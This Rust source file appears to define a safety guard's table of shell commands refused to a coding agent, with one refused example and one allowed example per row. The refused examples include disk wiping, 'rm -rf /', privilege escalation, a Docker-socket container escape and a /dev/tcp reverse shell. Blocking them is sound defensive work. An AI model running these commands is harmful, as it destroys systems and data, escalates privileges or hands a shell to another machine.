//! The table of dangers. To add one, add a row; a test checks each row's two examples.

use super::invocation::Invocation;
use super::{Assessment, container, device, disk, escalation, power, tree};
use crate::name_index::{NameIndex, name_index};

/// A command that is refused, in some or all of its forms.
pub struct Danger {
    /// The name of the row.
    pub entry: &'static str,
    /// The programs it applies to. A name that ends in `.*` matches any extension.
    pub names: &'static [&'static str],
    /// Checks one invocation.
    pub(super) check: fn(&Invocation<'_>) -> Assessment,
    /// Why it is refused and what to do instead.
    pub advice: &'static str,
    /// A command line that is refused.
    pub matches: &'static str,
    /// A similar one that isn't.
    pub not_match: &'static str,
}

/// The rows of [`TABLE`] by program name.
static INDEX: NameIndex = name_index!(TABLE);

/// Returns the dangers that apply to the program `name`, in the table's order.
pub(super) fn about(name: &str) -> impl Iterator<Item = &'static Danger> {
    let named = INDEX.candidates(name).filter(|&(row, at)| TABLE[row].names[at] == name);
    let mut rows: Vec<usize> = named.map(|(row, _)| row).collect();
    for (dot, _) in name.match_indices('.') {
        let stem = &name[..dot];
        let is_it = |&(row, at): &(usize, usize)| TABLE[row].names[at].strip_suffix(".*") == Some(stem);
        rows.extend(INDEX.candidates(stem).filter(is_it).map(|(row, _)| row));
    }
    rows.sort_unstable();
    rows.dedup();
    rows.into_iter().map(|row| &TABLE[row])
}

/// Pseudo program: a file written by redirection or by a tool.
pub(super) const WRITE: &str = ">";

/// Pseudo program: a file overwritten in place.
pub(super) const OVER: &str = ">!";

/// Pseudo program: a shell connected to another machine.
pub(super) const REMOTE: &str = ">&";

/// Pseudo program: a folder into which files of unknown names are written.
pub(super) const INTO: &str = ">/";

const fn row(
    entry: &'static str,
    names: &'static [&'static str],
    check: fn(&Invocation<'_>) -> Assessment,
    advice: &'static str,
    matches: &'static str,
    not_match: &'static str,
) -> Danger {
    Danger { entry, names, check, advice, matches, not_match }
}

const RIGHTS: &str = "it raises privileges; work without them, or ask the user to run it";
const TREES: &str = "it destroys a system or home folder; name a folder inside your workspace instead";
const DISKS: &str = "it can destroy a disk; work on files in your workspace, or ask the user to run it";
const POWER: &str = "it stops the system; leave it running, or ask the user to restart it";
const SHRED: &str = "it erases files beyond recovery; delete your own files with rm";

#[rustfmt::skip]
/// All dangers. A command is checked against every row with its name, in this order.
pub static TABLE: &[Danger] = &[
    // Privilege escalation.
    row("sudo", &["sudo", "sudoedit", "sudo-rs", "sudo.ws", "doas", "please", "dzdo", "pfexec", "super", "calife", "really", "gksudo", "gksu", "kdesu", "kdesudo", "beesu", "lxsudo", "lxqt-sudo", "ktsuss", "xdg-su", "sux", "pkexec", "run0", "visudo", "vipw", "vigr", "op2"], escalation::always, RIGHTS, "sudo ls", "echo sudo"),
    row("su", &["su", "su-rs", "runuser", "ksu"], escalation::always, RIGHTS, "su -c ls", "grep su x"),
    row("machinectl", &["machinectl"], escalation::machinectl, RIGHTS, "machinectl shell root@.host", "machinectl list"),
    row("as-root", &["setpriv", "capsh", "chpst", "systemd-run", "start-stop-daemon", "daemonize", "chroot"], escalation::as_root, RIGHTS, "setpriv --reuid=0 ls", "setpriv --reuid=1000 ls"),
    row("gosu", &["gosu", "su-exec", "sg", "setuidgid", "s6-setuidgid", "newgrp"], escalation::gosu, RIGHTS, "gosu root ls", "gosu nobody ls"),
    row("nsenter", &["nsenter"], escalation::nsenter, RIGHTS, "nsenter -t 1 -m sh", "nsenter -t 99 -n ip addr"),
    row("setuid", &["chmod", "install"], escalation::setuid, RIGHTS, "chmod u+s x", "chmod g+s x"),
    row("setcap", &["setcap"], escalation::always, RIGHTS, "setcap cap_setuid+ep x", "getcap x"),
    row("become", &["ansible", "ansible-playbook"], escalation::become_root, RIGHTS, "ansible localhost -b -m ping", "ansible localhost -m ping"),
    row("group", &["usermod", "gpasswd", "adduser", "addgroup", "useradd", "groupmod"], escalation::group, RIGHTS, "usermod -aG sudo me", "usermod -s /bin/zsh me"),
    row("container", &["docker", "podman", "nerdctl", "finch", "docker-compose", "podman-compose", "ctr", "systemd-nspawn", "apptainer", "singularity"], container::container, RIGHTS, "docker run -v /:/host x", "docker run -v .:/app x"),
    row("container-socket", &["curl", "wget", "http", "https", "xh", "nc", "socat"], container::socket, RIGHTS, "curl --unix-socket /var/run/docker.sock -d '{\"Binds\":[\"/:/h\"]}' http://x/containers/create", "curl --unix-socket /var/run/docker.sock http://x/version"),
    row("account", &["passwd", "chpasswd", "chgpasswd", "newusers", "userdel", "deluser", "groupdel", "delgroup"], escalation::account, RIGHTS, "passwd -d root", "passwd -S"),
    row("container-disk", &["lxc", "incus"], escalation::container_disk, RIGHTS, "lxc config device add c d disk source=/ path=/h", "lxc list"),
    row("copy", &["cp", "ln", "install", "mv", "rsync", "cat", "dd"], escalation::copied_program, RIGHTS, "cp /usr/bin/sudo q", "cp /usr/bin/ls q"),
    row("run-as", &["Start-Process", "start-process", "saps"], escalation::run_as, RIGHTS, "Start-Process cmd -Verb RunAs", "Start-Process cmd"),
    // Destruction of trees.
    row("rm", &["rm", "unlink", "rmdir", "grm", "trash", "trash-put", "rimraf", "del", "safe-rm", "gio", "rip", "del-cli", "trash-cli"], tree::remove, TREES, "rm -rf /", "rm -rf ./x"),
    row("mv", &["mv", "gmv"], tree::move_away, TREES, "mv ~ /tmp/x", "mv a b"),
    row("rights", &["chmod", "chown", "chgrp", "chattr", "setfacl", "chcon", "gchmod", "gchown"], tree::change_modes, TREES, "chmod -R 777 /", "chmod -R 755 dist"),
    row("shut", &["chmod"], tree::change_root_mode, TREES, "chmod 000 /", "chmod 000 x"),
    row("find", &["find", "gfind", "bfs"], tree::find, TREES, "find / -delete", "find . -name x -delete"),
    row("rsync", &["rsync"], tree::rsync, TREES, "rsync -a --delete x/ /", "rsync -a --delete x/ y/"),
    row("git-clean", &["git"], tree::git_clean, TREES, "git -C / clean -fdx", "git clean -fdx"),
    row("tar", &["tar", "gtar", "bsdtar"], tree::tar_remove_files, TREES, "tar cf x.tar --remove-files /etc", "tar cf x.tar --remove-files y"),
    row("ln", &["ln"], tree::replace_with_link, TREES, "ln -sfn x /etc", "ln -sfn x y"),
    row("empty", &[WRITE, OVER], tree::overwrite_all, TREES, "for f in ~/*; do : > \"$f\"; done", "for f in *.log; do : > \"$f\"; done"),
    row("system-tree", &[INTO], device::around_critical, TREES, "tar xf x.tar -C /", "tar xf x.tar -C y"),
    row("archive", &["zip", "7z", "7za", "7zz", "rar", "arj", "lha"], tree::pack_and_remove, TREES, "zip -rm x.zip ~", "zip -rm x.zip y"),
    row("blank", &["cp", "install", "sed", "gsed", "truncate"], tree::empty_found, TREES, "find ~ -type f | xargs cp /dev/null", "cp /dev/null x"),
    row("cloud", &["aws", "gsutil", "gcloud", "s3cmd", "s5cmd", "mc"], tree::cloud, TREES, "aws s3 sync s3://b ~ --delete", "aws s3 sync s3://b y --delete"),
    row("subvolume", &["btrfs"], tree::subvolume, TREES, "btrfs subvolume delete /home", "btrfs subvolume delete y"),
    row("absent", &["ansible"], tree::ansible_absent, TREES, "ansible localhost -m file -a 'path=/etc state=absent'", "ansible localhost -m file -a 'path=/tmp/x state=absent'"),
    row("rclone", &["rclone"], tree::rclone, TREES, "rclone purge ~", "rclone purge remote:x"),
    row("tool", &["aws", "gsutil", "s3cmd", "cmake", "btrfs", "lftp"], tree::by_subcommand, TREES, "cmake -E rm -rf ~", "cmake -E rm -rf y"),
    row("prune", &["fdupes", "jdupes", "rdfind", "tmpreaper", "tmpwatch", "robocopy", "unison"], tree::prune, TREES, "fdupes -rdN ~", "fdupes -rdN y"),
    row("system-file", &[WRITE, "tee", "cp", "mv", "install", "ln", "dd", "truncate", "sponge", "sed", "perl", "curl", "wget", "shred", "rsync", "xxd"], device::to_critical, RIGHTS, "echo x >> /etc/sudoers", "cat /etc/passwd > x"),
    row("remote-shell", &[REMOTE], escalation::always, "it connects a shell to another machine; run the command here instead", "bash -i >& /dev/tcp/h/1 0>&1", "echo x > /dev/tcp/h/1"),
    // Disks.
    row("node", &["mknod"], device::node, DISKS, "mknod x b 8 0", "mknod x p"),
    row("device", &[WRITE, "dd", "dcfldd", "dc3dd", "tee", "sponge", "cp", "mv", "install", "truncate", "fallocate", "pv", "ddrescue", "dd_rescue", "rsync", "curl", "wget", "tar", "gtar", "bsdtar", "sed", "qemu-img", "badblocks", "fio", "sort", "shuf", "socat", "find", "ntfsclone", "partclone.*", "openssl", "xxd", "flashcp", "nandwrite", "flash_erase", "flash_eraseall", "flashrom", "e2image", "partimage", "fsarchiver", "bmaptool", "grub-install", "grub2-install", "debugfs", "lilo", "extlinux", "ln"], device::to_device, DISKS, "dd if=x of=/dev/sda", "dd if=x of=disk.img"),
    row("mkfs", &["mkfs", "mkfs.*", "mkfs.ext4", "mkfs.ext3", "mkfs.ext2", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mkfs.f2fs", "mkfs.minix", "mke2fs", "mkswap", "mkdosfs", "mkntfs", "newfs", "newfs.*", "newfs_msdos", "newfs_apfs", "newfs_hfs", "mkudffs", "mkreiserfs", "mkexfatfs", "mkzftree", "mformat", "make-bcache"], disk::format, DISKS, "mkfs.ext4 /dev/sda1", "mkfs.ext4 disk.img"),
    row("partition", &["fdisk", "sfdisk", "cfdisk", "gdisk", "cgdisk", "sgdisk", "parted", "wipefs", "fixparts", "gparted", "partx", "delpart", "addpart"], disk::partition, DISKS, "parted /dev/sda mklabel gpt", "fdisk -l"),
    row("format", &["format", "format.com", "Format-Volume", "Clear-Disk"], disk::drive, DISKS, "format c: /q", "format src"),
    row("volume", &["lvremove", "vgremove", "pvremove", "lvreduce", "vgreduce", "pvcreate", "vgcreate", "blkdiscard", "sg_format", "sg_sanitize", "sg_write_same", "sg_unmap", "mkfs_msdos"], disk::always, DISKS, "lvremove vg/lv", "lvs"),
    row("volume-tool", &["cryptsetup", "zpool", "zfs", "nvme", "mdadm", "dmsetup", "diskutil", "apfs", "asr", "gpart", "btrfs", "diskpart", "bcachefs"], disk::by_subcommand, DISKS, "cryptsetup luksFormat /dev/sda1", "cryptsetup status x"),
    row("hdparm", &["hdparm", "sedutil-cli"], disk::by_option, DISKS, "hdparm --security-erase x /dev/sda", "hdparm -I /dev/sda"),
    // Secure deletion.
    row("shred", &["shred", "gshred", "wipe", "srm", "scrub", "nwipe", "bcwipe", "sfill", "sswap", "sdmem", "smem-secure-delete", "secure-delete", "dban", "dwipe"], disk::always, SHRED, "shred -u x", "man shred"),
    // Power.
    row("shutdown", &["shutdown", "reboot", "halt", "poweroff", "pm-suspend", "pm-hibernate", "pm-suspend-hybrid", "systemsoftreboot", "systemd-reboot", "systemd-shutdown", "fastboot-reboot", "fasthalt", "fastboot", "Stop-Computer", "Restart-Computer", "stop-computer", "restart-computer"], power::stop, POWER, "shutdown -h now", "man reboot"),
    row("systemctl", &["systemctl"], power::systemd, POWER, "systemctl reboot", "systemctl status"),
    row("init", &["init", "telinit", "runit-init", "uadmin"], power::level, POWER, "init 0", "init --version"),
    row("dbus", &["dbus-send", "busctl", "gdbus", "qdbus", "qdbus-qt5", "qdbus6"], power::message, POWER, "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b true", "busctl list"),
    row("power-tool", &["ipmitool", "rtcwake", "kexec", "loginctl", "xe", "pmset", "wmic", "openrc-shutdown", "initctl", "dinitctl", "xfce4-session-logout", "mate-session-save", "lxsession-logout", "launchctl", "gnome-session-quit", "shutdown.exe"], power::by_subcommand, POWER, "loginctl poweroff", "loginctl list-sessions"),
    row("kill-all", &["kill"], power::kill, POWER, "kill -9 1", "kill -9 12"),
    row("kill-first", &["killall", "pkill", "killall5"], power::kill_by_name, POWER, "killall -9 systemd", "pkill -f server"),
    row("osascript", &["osascript"], power::script, POWER, "osascript -e 'tell app \"Finder\" to restart'", "osascript -e 'beep'"),
    row("sysrq", &[WRITE, "tee", "dd", "cp", "sponge"], device::to_power, POWER, "echo b > /proc/sysrq-trigger", "cat /proc/sysrq-trigger"),
];
